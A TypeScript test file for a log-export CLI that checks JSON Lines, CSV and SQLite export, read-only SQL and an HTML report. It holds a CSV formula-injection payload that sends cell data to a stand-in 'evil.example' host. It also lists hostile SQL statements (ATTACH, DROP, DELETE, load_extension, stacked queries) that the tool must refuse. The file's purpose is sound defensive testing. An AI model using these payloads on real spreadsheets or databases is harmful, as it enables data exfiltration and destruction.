// export (JSON Lines, CSV, SQLite), sql and report on a log with several agents, sessions,
// commits and a segment (test/helpers/read-log.ts): every row out exactly once, in order; the
// database any SQLite tool opens; hostile SQL refused through the CLI with the tracked files
// untouched; the report one file whose data no row can break out of.
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { messages } from '../../src/messages.ts';
import { CSV_COLUMNS } from '../../src/read/export.ts';
import { DATA_ID } from '../../src/read/report/template.ts';
import { SCHEMA_VERSION } from '../../src/store/schema.ts';
import { validateLogFile } from '../../src/store/untrusted.ts';
import type { LogEntry } from '../../src/store/view.ts';
import { parseCsv } from '../helpers/csv.ts';
import { LOG, logJson, SESSION, stateDir } from '../helpers/log.ts';
import { buildReadLog, HOSTILE, S } from '../helpers/read-log.ts';
import { BIN, queryDb, type Run, type TestRepo, throwawayRepos } from '../helpers/repo.ts';
import { UNSAFE_IN_OUTPUT } from '../helpers/unsafe.ts';

const { repo, dir } = throwawayRepos(test, { per: 'file' });
let r: TestRepo;
let out: string;
let rows: LogEntry[];
let tracked: Buffer[];
test.before(async () => {
  r = repo();
  await buildReadLog(r);
  out = dir('codexlog-export-');
  rows = logJson(r);
  tracked = [r.read(LOG), r.read(SESSION)];
});

function ok(args: string[], env: NodeJS.ProcessEnv = {}): Run {
  const res = r.cli(args, { env });
  assert.equal([res.status, res.stderr], [0, ''], args.join(' '));
  return res;
}
const actionKeys = (x: LogEntry) => [x.id, x.uid, x.session_id, x.ts, x.action, x.statement, x.metadata, x.pending];

test('export (JSON Lines to stdout): every action as `log` has it, in its order; the session events among them', () => {
  const text = ok(['export']).stdout;
  assert.not.match(text.replace(/\n/g, ''), UNSAFE_IN_OUTPUT);
  const lines = text
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as Record<string, unknown>);
  const actions = lines.filter((l) => l.table === 'codex_actions');
  const events = lines.filter((l) => l.table === 'codex_log');
  assert.equal(
    actions.map((a) => Object.keys(a)),
    actions.map(() => ['table', 'id', 'uid', 'session_id', 'ts', 'action', 'statement', 'metadata', 'pending']),
  );
  assert.equal(
    actions.map((a) => actionKeys(a as unknown as LogEntry)),
    rows.map(actionKeys),
  );
  assert.equal(
    events.map((e) => [e.session_id, e.event]),
    [
      [S.C1, 'start'],
      [S.K1, 'start'],
      [S.C1, 'end'],
      [S.C2, 'start'],
    ],
  );
  // Each start event comes before its session's first action.
  for (const id of [S.C1, S.K1, S.C2]) {
    const start = lines.findIndex((l) => l.table === 'codex_log' && l.session_id === id);
    const first = lines.findIndex((l) => l.table === 'codex_actions' && l.session_id === id);
    assert.ok(start < first, id);
  }
  assert.ok(
    actions.some((a) => a.statement === HOSTILE),
    'the hostile statement comes back exactly',
  );
});

test('export --format csv -o: RFC 4180, one record per row, the data exactly as stored', () => {
  const file = path.join(out, 'log.csv');
  const res = ok(['export', '--format', 'csv', '-o', file]);
  assert.is(res.stdout, `${messages.exported(rows.length, 4, file)}\n`);
  const records = parseCsv(readFileSync(file, 'utf8'));
  assert.equal(records[0], [...CSV_COLUMNS]);
  const actions = records.slice(1).filter((x) => x[0] === 'codex_actions');
  assert.is(actions.length, rows.length);
  assert.equal(
    actions.map((x) => [x[1], x[2], x[3], x[4], x[5], x[6], x[7], x[10]]),
    rows.map((x) => [
      String(x.id ?? ''),
      x.uid,
      x.session_id ?? '',
      x.ts ?? '',
      x.action ?? '',
      x.statement ?? '',
      x.metadata ?? '',
      x.pending ? '1' : '0',
    ]),
  );
  assert.is(records.length, 1 + rows.length + 4);
});

test('export --format sqlite -o: one database with the seed schema and every row, that sqlite3 and our own reader open', async () => {
  const file = path.join(out, 'log.db');
  ok(['export', '--format', 'sqlite', '-o', file]);
  assert.equal(
    readdirSync(out).filter((f) => f.startsWith('log.db')),
    ['log.db'],
    'no journal or temp file left',
  );
  const cli = r.run('sqlite3', [
    file,
    'PRAGMA integrity_check; PRAGMA journal_mode; SELECT count(*) FROM codex_actions; SELECT count(*) FROM codex_log;',
  ]);
  assert.equal([cli.status, cli.stdout], [0, `ok\ndelete\n${rows.length}\n4\n`]);
  assert.equal(
    (await queryDb<{ name: string }>(file, "SELECT name FROM pragma_table_info('codex_actions')")).map((c) => c.name),
    ['id', 'session_id', 'ts', 'action', 'statement', 'metadata', 'uid'],
  );
  assert.equal(await queryDb(file, 'PRAGMA user_version'), [{ user_version: SCHEMA_VERSION }]);
  const got = await queryDb<LogEntry>(file, 'SELECT * FROM codex_actions ORDER BY id');
  // Committed rows keep their ids; the uncommitted ones get the next ones, in order of time.
  const committed = rows.filter((x) => !x.pending);
  const maxId = Math.max(...committed.map((x) => x.id as number));
  assert.equal(
    got.map((x) => [x.id, x.uid, x.statement]),
    [
      ...committed.map((x) => [x.id, x.uid, x.statement]).sort((a, b) => (a[0] as number) - (b[0] as number)),
      ...rows.filter((x) => x.pending).map((x, i) => [maxId + 1 + i, x.uid, x.statement]),
    ],
  );
  validateLogFile(file);
});

test("CSV (export and sql --csv): text a spreadsheet would run as a formula starts with '; JSON Lines keeps it exact", () => {
  const f = repo();
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const rec = f.cli(['record', '+tool', '--session=@s', '--metadata=-1+1', '--', formula]);
  assert.is(rec.status, 0, rec.stderr);
  const csv = parseCsv(f.cli(['export', '--format', 'csv']).stdout).filter((x) => x[0] === 'codex_actions');
  assert.equal(
    csv.map((x) => [x[3], x[5], x[6], x[7]]),
    [["'@s", "'+tool", `'${formula}`, "'-1+1"]],
  );
  const sql = parseCsv(f.cli(['sql', 'SELECT session_id, action, statement, metadata, -1 AS n FROM codex_actions', '--csv']).stdout);
  assert.equal(sql, [
    ['session_id', 'action', 'statement', 'metadata', 'n'],
    ["'@s", "'+tool", `'${formula}`, "'-1+1", '-1'],
  ]);
  const jsonl = JSON.parse(f.cli(['export']).stdout.split('\n')[0]) as LogEntry;
  assert.equal([jsonl.session_id, jsonl.action, jsonl.statement, jsonl.metadata], ['@s', '+tool', formula, '-1+1']);
});

test('export --committed: the committed rows only', () => {
  const lines = ok(['export', '--committed']).stdout.trimEnd().split('\n');
  assert.is(lines.filter((l) => l.includes('"table":"codex_actions"')).length, rows.filter((x) => !x.pending).length);
});

test('export refuses to write over the log, into a folder, or sqlite to stdout; nothing written', () => {
  for (const target of [LOG, SESSION, path.join(stateDir(r), 'view.db')]) {
    const res = r.cli(['export', '--format', 'sqlite', '-o', target]);
    assert.equal([res.status, res.stderr], [1, `codexlog-hooks: ${messages.outputIsLogFile(path.resolve(r.dir, target))}\n`]);
  }
  const folder = r.cli(['export', '-o', out]);
  assert.equal([folder.status, folder.stderr], [1, `codexlog-hooks: ${messages.outputIsFolder(out)}\n`]);
  const noFile = r.cli(['export', '--format', 'sqlite']);
  assert.equal(noFile.status, 2);
  assert.ok(noFile.stderr.startsWith(`codexlog-hooks: ${messages.exportNeedsFile}\n`));
  for (const format of ['jsonl', 'sqlite']) {
    const missing = path.join(out, 'no-such-folder', `log.${format}`);
    const res = r.cli(['export', '--format', format, '-o', missing]);
    assert.is(res.status, 1);
    assert.ok(res.stderr.startsWith(`codexlog-hooks: Could not write ${missing} (`), res.stderr);
    assert.ok(res.stderr.endsWith('Check that its folder exists and is writable, or choose another path with -o.\n'), res.stderr);
  }
  const bad = r.cli(['export', '--format', 'xml']);
  assert.equal(bad.status, 2);
  assert.ok(r.read(LOG).equals(tracked[0]) && r.read(SESSION).equals(tracked[1]));
});

test('export and report -o never replace an existing file without --force; with it, a database loses its leftover journal files', async () => {
  const keep = path.join(out, 'precious.db');
  assert.is(r.run('sqlite3', [keep, 'CREATE TABLE precious (x); INSERT INTO precious VALUES (42);']).status, 0);
  const notes = path.join(out, 'notes.txt');
  writeFileSync(notes, 'keep me\n');
  const before = [readFileSync(keep), readFileSync(notes)];
  const refusals: Array<[string[], string]> = [
    [['export', '--format', 'sqlite', '-o', keep], messages.outputExists(keep)],
    [['export', '--format', 'csv', '-o', notes], messages.outputExists(notes)],
    [['export', '-o', notes], messages.outputExists(notes)],
    [['report', '-o', notes], messages.outputExists(notes)],
  ];
  for (const [args, message] of refusals) {
    const res = r.cli(args);
    assert.equal([res.status, res.stdout, res.stderr], [1, '', `codexlog-hooks: ${message}\n`], args.join(' '));
  }
  assert.equal([readFileSync(keep), readFileSync(notes)], before);
  // A journal left beside a new database's name would be replayed into it: refused too.
  const fresh = path.join(out, 'fresh.db');
  writeFileSync(`${fresh}-wal`, 'stale');
  const stale = r.cli(['export', '--format', 'sqlite', '-o', fresh]);
  assert.equal([stale.status, stale.stderr], [1, `codexlog-hooks: ${messages.outputLeftover(fresh, `${fresh}-wal`)}\n`]);
  assert.not.ok(existsSync(fresh));
  // --force: replaced, and the leftovers of the old database are gone.
  for (const suffix of ['-wal', '-shm', '-journal']) writeFileSync(`${keep}${suffix}`, 'stale');
  for (const file of [keep, fresh]) {
    ok(['export', '--format', 'sqlite', '-o', file, '--force']);
    assert.equal(
      readdirSync(out).filter((f) => f.startsWith(path.basename(file))),
      [path.basename(file)],
    );
    const check = r.run('sqlite3', [file, 'PRAGMA integrity_check; SELECT count(*) FROM codex_actions;']);
    assert.equal([check.status, check.stdout], [0, `ok\n${rows.length}\n`]);
  }
  assert.equal(await queryDb(keep, "SELECT name FROM sqlite_schema WHERE name = 'precious'"), []);
  ok(['export', '--format', 'csv', '-o', notes, '--force']);
  assert.ok(readFileSync(notes, 'utf8').startsWith('table,id,'));
  ok(['report', '-o', notes, '--force']);
  assert.ok(readFileSync(notes, 'utf8').startsWith('<!DOCTYPE html>'), 'the report replaced it');
});

test('export to a reader that goes away (| head): no error, no trace', () => {
  const res = r.run('sh', ['-c', `{ '${process.execPath}' '${BIN}' export 2>&1; echo "exit $?" >&2; } | head -c 100 >/dev/null`]);
  assert.equal([res.status, res.stdout, res.stderr], [0, '', 'exit 0\n']);
});

// The same hostile statements as the unit table, through the CLI of a real repository.
const hostile = [
  `ATTACH DATABASE '${LOG}' AS log`,
  '/* x */ PRAGMA query_only = OFF',
  "VACUUM INTO 'copy.db'",
  'DELETE FROM seg_actions',
  "INSERT INTO codex_actions (uid) VALUES ('x')",
  'WITH x AS (SELECT 1) DELETE FROM temp.pending_actions',
  'SELECT 1; DROP TABLE seg_actions',
  "SELECT load_extension('x')",
  'DROP VIEW codex_actions',
];
test('sql refuses every statement that would write, and the log, the view and the work tree stay as they were', () => {
  const before = ok(['sql', 'SELECT count(*) AS n FROM codex_actions', '--json']).stdout;
  for (const sql of hostile) {
    const res = r.cli(['sql', sql]);
    assert.equal([res.status, res.stdout], [1, ''], sql);
    assert.match(
      res.stderr,
      /^codexlog-hooks: (sql runs read-only queries|Give one statement|SQLite refused the query: not authorized)/,
      sql,
    );
  }
  assert.is(ok(['sql', 'SELECT count(*) AS n FROM codex_actions', '--json']).stdout, before);
  assert.ok(r.read(LOG).equals(tracked[0]) && r.read(SESSION).equals(tracked[1]));
  assert.not.ok(existsSync(path.join(r.dir, 'copy.db')));
  assert.is(r.git(['status', '--porcelain', '--untracked-files=all']), '');
});

test('sql: table, --json and --csv over the seed tables with a pending column; text escaped', () => {
  const q =
    'SELECT session_id, count(*) AS n, sum(pending) AS pending FROM codex_actions WHERE session_id IS NOT NULL GROUP BY 1 ORDER BY 1';
  const expected = [
    { session_id: S.K1, n: 4, pending: 1 },
    { session_id: S.C1, n: 204, pending: 0 },
    { session_id: S.C2, n: 2, pending: 1 },
    { session_id: S.P, n: 1, pending: 0 },
  ];
  assert.equal(JSON.parse(ok(['sql', q, '--json']).stdout), expected);
  assert.is(
    ok(['sql', q, '--csv']).stdout,
    ['session_id,n,pending', ...expected.map((e) => `${e.session_id},${e.n},${e.pending}`), ''].join('\r\n'),
  );
  assert.is(
    ok(['sql', q]).stdout,
    [
      'session_id    n  pending',
      'claude-k1     4        1',
      'codex-c1    204        0',
      'codex-c2      2        1',
      'plain-1       1        0',
      '',
    ].join('\n'),
  );
  const hostileRow = `SELECT statement FROM codex_actions WHERE action = 'tool.Edit'`;
  for (const args of [[], ['--json']]) assert.not.match(ok(['sql', hostileRow, ...args]).stdout.replace(/\n/g, ''), UNSAFE_IN_OUTPUT);
  assert.equal(JSON.parse(ok(['sql', hostileRow, '--json']).stdout), [{ statement: HOSTILE }]);
  // CSV to a pipe keeps the data exactly (a terminal gets it escaped).
  assert.equal(parseCsv(ok(['sql', hostileRow, '--csv']).stdout), [['statement'], [HOSTILE]]);
  const both = r.cli(['sql', 'SELECT 1', '--json', '--csv']);
  assert.is(both.status, 2);
});

test('report: one HTML file, in the git dir by default; its data parses to every row; no row carries markup out', () => {
  const res = ok(['report']);
  const file = path.join(stateDir(r), 'report.html');
  assert.is(res.stdout, `${messages.reportWritten(file, rows.length, 4, 4)}\n`);
  const html = readFileSync(file, 'utf8');
  assert.is([...html.matchAll(/<script\b/g)].length, 2);
  assert.not.ok(html.includes('<script>document.title'), 'the hostile row is not markup');
  assert.not.match(html.replace(/\n/g, ''), UNSAFE_IN_OUTPUT);
  const open = `<script type="application/json" id="${DATA_ID}">`;
  const start = html.indexOf(open) + open.length;
  const data = JSON.parse(html.slice(start, html.indexOf('</script>', start))) as {
    rows: unknown[][];
    sessionIds: string[];
    commits: unknown[];
  };
  assert.is(data.rows.length, rows.length);
  assert.equal(data.sessionIds.sort(), [S.K1, S.C1, S.C2, S.P].sort());
  assert.is(data.commits.length, 4);
  // -o writes elsewhere; it refuses the log's own files.
  const elsewhere = path.join(out, 'report.html');
  ok(['report', '-o', elsewhere, '--since', '2999-01-01']);
  assert.ok(statSync(elsewhere).size > 1000);
  const refused = r.cli(['report', '-o', LOG]);
  assert.is(refused.status, 1);
  assert.is(r.git(['status', '--porcelain', '--untracked-files=all']), '');
});

test.run();
